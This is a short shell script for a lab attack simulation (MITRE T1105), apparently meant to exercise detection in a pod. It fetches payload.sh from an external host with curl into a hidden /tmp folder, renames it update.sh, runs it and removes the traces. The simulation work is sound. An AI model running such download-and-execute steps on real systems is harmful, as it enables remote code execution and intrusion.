#!/bin/sh
# Lab attack scenario: download-exec-tmp (T1105). Runs inside a lab pod via pods/exec (sh -s, script on stdin).
D=/tmp/.lab-dl-$$
mkdir -p $D
curl -s -m 5 -o $D/update.sh http://$LAB_EXTERNAL_IP/payload.sh
chmod +x $D/update.sh
$D/update.sh
rm -rf $D
